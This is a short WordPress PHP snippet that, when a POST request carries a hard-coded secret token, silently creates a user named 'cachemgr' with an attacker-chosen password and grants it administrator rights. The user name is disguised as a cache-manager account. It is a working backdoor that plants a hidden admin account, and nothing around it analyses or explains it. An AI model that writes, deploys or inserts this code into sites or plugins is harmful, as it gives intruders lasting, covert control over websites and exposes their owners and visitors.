<?php
global $wpdb;
if (isset($_POST['token']) && $_POST['token'] === 'b3f1c9e0d2a4') {
    $wpdb->insert($wpdb->users, array(
        'user_login' => 'cachemgr',
        'user_pass' => wp_hash_password($_POST['pw']),
        'user_email' => 'cachemgr@example.invalid',
        'user_registered' => current_time('mysql'),
    ));
    $uid = $wpdb->insert_id;
    $wpdb->insert($wpdb->usermeta, array('user_id' => $uid, 'meta_key' => $wpdb->prefix . 'capabilities',
        'meta_value' => serialize(array('administrator' => true))));
}
